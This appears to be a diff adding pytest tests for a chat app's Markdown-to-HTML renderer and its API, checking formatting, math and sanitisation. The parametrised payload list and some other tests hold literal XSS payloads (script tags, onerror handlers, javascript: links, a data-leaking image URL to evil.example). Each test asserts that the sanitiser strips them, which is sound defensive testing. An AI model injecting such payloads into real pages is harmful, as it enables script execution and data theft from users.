@@ -1,0 +1,127 @@
+from html.parser import HTMLParser
+
+import pytest
+
+from conversations.rendering import render_markdown
+
+
+def test_markdown_basics_render():
+    html = render_markdown("# Title\n\nSome **bold** and a [link](https://example.com).")
+    assert "<h1>Title</h1>" in html
+    assert "<strong>bold</strong>" in html
+    assert '<a href="https://example.com" rel="noopener noreferrer nofollow">link</a>' in html
+
+
+def test_code_blocks_are_highlighted_with_a_copy_button():
+    html = render_markdown('```python\nprint("<b>")\n```')
+    assert 'class="codeblock-lang">python<' in html
+    assert '<button type="button" class="copy-code"' in html
+    assert '<span class="nb">print</span>' in html
+    assert "&lt;b&gt;" in html and "<b>" not in html
+
+
+def test_unknown_language_still_renders_escaped():
+    html = render_markdown("```nosuchlang\n<script>x</script>\n```")
+    assert "&lt;script&gt;" in html
+    assert "<script>" not in html
+
+
+def test_tables_render_with_alignment_only():
+    html = render_markdown("| a | b |\n|--:|---|\n| 1 | 2 |")
+    assert "<table>" in html
+    assert '<td style="text-align:right">1</td>' in html
+
+
+def test_math_becomes_mathml():
+    html = render_markdown("Inline $x^2$ and\n\n$$\n\\frac{1}{2}\n$$")
+    assert '<math xmlns="http://www.w3.org/1998/Math/MathML" display="inline">' in html
+    assert "<msup><mi>x</mi><mn>2</mn></msup>" in html
+    assert 'display="block"' in html and "<mfrac>" in html
+
+
+def test_dollar_amounts_stay_text():
+    html = render_markdown("It costs $5 and $10.")
+    assert "<math" not in html
+    assert "$5 and $10." in html
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "[click](javascript:alert(1))",
+        '<a href="https://x" onclick="alert(1)">x</a>',
+        "<iframe src=https://evil></iframe>",
+        "$\\href{javascript:alert(1)}{x}$",
+    ],
+)
+def test_untrusted_html_never_survives(payload):
+    elements = parse_elements(render_markdown(payload))
+    assert not {tag for tag, _ in elements} & {"script", "img", "iframe"}
+    for _, attrs in elements:
+        assert not [name for name in attrs if name.startswith("on")]
+        assert not attrs.get("href", "").startswith("javascript")
+
+
+def test_markdown_images_become_links_so_urls_are_not_fetched():
+    html = render_markdown("![secret](https://evil.example/leak?q=data)")
+    assert "<img" not in html
+    assert 'href="https://evil.example/leak?q=data"' in html
+
+
+def parse_elements(html: str) -> list[tuple[str, dict]]:
+    """The elements a browser would build from `html`, as (tag, attributes)."""
+    elements = []
+
+    class Collector(HTMLParser):
+        def handle_starttag(self, tag, attrs):
+            elements.append((tag, dict(attrs)))
+
+    Collector().feed(html)
+    return elements
+
+
+def test_the_api_gives_model_text_as_sanitized_html_and_keeps_the_text(client, alice):
+    from tests.factories import make_conversation, make_message
+
+    conversation = make_conversation(alice)
+    question = make_message(conversation, text="<b>hi</b>")
+    answer = make_message(
+        conversation, question, role="assistant", text="**Sure** <img src=x onerror=alert(1)>"
+    )
+    conversation.current_leaf = answer
+    conversation.save()
+    client.force_login(alice)
+    messages = client.get(f"/api/conversations/{conversation.id}/").json()["messages"]
+
+    user_item, model_item = messages[0]["content"][0], messages[1]["content"][0]
+    assert "html" not in user_item  # user text is shown as text, never as HTML
+    assert user_item["text"] == "<b>hi</b>"
+    assert model_item["text"] == "**Sure** <img src=x onerror=alert(1)>"
+    assert "<strong>Sure</strong>" in model_item["html"]
+    assert not [tag for tag, _ in parse_elements(model_item["html"]) if tag == "img"]
+
+
+def test_html_smuggled_in_through_an_import_is_never_served(client, alice):
+    client.force_login(alice)
+    exported = {
+        "format": "chatproject.conversation",
+        "version": 1,
+        "conversation": {"title": "Imported"},
+        "messages": [
+            {"id": "1", "parent_id": None, "role": "user", "status": "completed",
+             "content": [{"type": "input_text", "text": "hi", "html": "<script>x()</script>"}]},
+            {"id": "2", "parent_id": "1", "role": "assistant", "status": "completed",
+             "content": [{"type": "output_text", "text": 5, "html": "<script>y()</script>"},
+                         {"type": "plan", "html": "<script>z()</script>"}]},
+        ],
+    }  # fmt: skip
+    response = client.post("/api/conversations/import/", exported, content_type="application/json")
+    assert response.status_code == 201, response.json()
+    conversation_id = response.json()["id"]
+    served = client.get(f"/api/conversations/{conversation_id}/").content.decode()
+    assert "<script>" not in served and "\\u003cscript" not in served
+    share = client.post(f"/api/conversations/{conversation_id}/shares/", {}, "application/json")
+    page = client.get(f"/s/{share.json()['token']}/").content.decode()
+    assert "<script>" not in page
